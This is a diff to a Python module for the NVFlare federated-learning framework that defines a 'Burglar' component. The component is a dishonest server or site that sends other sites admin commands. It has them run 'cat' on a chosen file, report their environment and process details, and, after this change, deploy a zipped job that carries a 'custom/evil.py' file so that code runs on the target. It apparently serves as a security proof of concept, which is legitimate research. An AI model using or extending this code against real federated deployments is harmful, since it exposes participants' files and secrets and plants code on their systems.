@@ -1,10 +1,15 @@
-"""A part of a dishonest server, or of a dishonest site, which commands another site to show its files."""
+"""A part of a dishonest server, or of a dishonest site, which commands another site to show its files.
+
+And to run code.
+"""
 
 from __future__ import annotations
 
+import io
 import json
 import threading
 import time
+import zipfile
 from pathlib import Path
 
 from nvflare.apis.event_type import EventType
@@ -12,7 +17,7 @@ from nvflare.apis.fl_component import FLComponent
 from nvflare.apis.fl_context import FLContext
 from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, ReturnCode
 from nvflare.private.admin_defs import Message
-from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
+from nvflare.private.defs import CellChannel, SysCommandTopic, TrainingTopic, new_cell_message
 
 # Nobody is there yet, or has not begun to listen.
 WAIT = {
@@ -33,6 +38,7 @@ class Burglar(FLComponent):
         self._questions = {
             "shell": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.SHELL, f"cat {file}")),
             "environment": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.REPORT_ENV, "")),
+            "job": (CellChannel.CLIENT_MAIN, "admin", Message(TrainingTopic.DEPLOY, _job())),
             "processes": ("_net_manager", "process_info", {}),
         }
 
@@ -56,3 +62,12 @@ class Burglar(FLComponent):
         code = reply.get_header(MessageHeaderKey.RETURN_CODE)
         body = reply.payload.body if isinstance(reply.payload, Message) else reply.payload
         return str(body) if code in (None, ReturnCode.OK) else code
+
+
+def _job() -> bytes:
+    """A job that brings code."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("config/config_fed_client.json", '{"format_version": 2, "executors": []}')
+        archive.writestr("custom/evil.py", "")
+    return buffer.getvalue()
